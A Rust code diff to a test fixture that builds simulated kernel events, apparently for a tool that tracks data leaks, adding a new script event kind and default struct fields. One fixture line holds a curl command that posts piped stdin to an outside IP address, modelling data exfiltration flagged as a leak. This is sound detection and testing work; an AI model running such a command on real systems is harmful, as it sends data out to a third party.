@@ -65,8 +65,8 @@ pub(crate) fn events() -> Vec<Event> {
     let actor = |process: Process| Actor { job: 1, step: 2, process, thread: process.pid, holder: holder(process) };
     let pipe = Object::Pipe(File { device: 14, inode: 40_961, generation: 0 });
     let file = |inode| File { device: 8 << 20 | 1, inode, generation: 1_734_001 };
-    let bits = |bits| Some(Kernel { bits, leak: 0 });
-    let leak = Some(Kernel { bits: 1, leak: 1 });
+    let bits = |bits| Some(Kernel { bits, ..Kernel::default() });
+    let leak = Some(Kernel { bits: 1, leak: 1, ..Kernel::default() });
     let argv = ["curl", "-d", "@-", "https://203.0.113.9/"].map(String::from).to_vec();
     let network = Network {
         call: Call::Connect,
@@ -110,11 +110,13 @@ pub(crate) fn events() -> Vec<Event> {
                 argv,
                 argv_cut: 12,
                 uid: 0,
+                ..Exec::default()
             }),
             bits(1),
         ),
-        (Some(SHELL), Body::Give(Flow { object: pipe, given: 8 }), bits(1)),
-        (Some(CURL), Body::Take(Flow { object: pipe, given: 8 }), bits(1)),
+        (Some(CURL), Body::Script(crate::event::Script { program: 0 }), None),
+        (Some(SHELL), Body::Give(Flow::new(pipe, 8)), bits(1)),
+        (Some(CURL), Body::Take(Flow::new(pipe, 8)), bits(1)),
         (Some(CURL), Body::Network(network), leak),
         (Some(CURL), Body::Drop(drop), leak),
         (Some(CURL), Body::Kill(Kill { errno: 0 }), None),
@@ -225,8 +227,9 @@ mod page {
             Body::Proved => 12,
             Body::Lost(_) => 13,
             Body::Unexplained { .. } => 14,
+            Body::Script(_) => 15,
         };
         let kinds = events().iter().map(|event| number(&event.body)).collect::<BTreeSet<_>>();
-        assert_eq!(kinds, (0..15).collect());
+        assert_eq!(kinds, (0..16).collect());
     }
 }
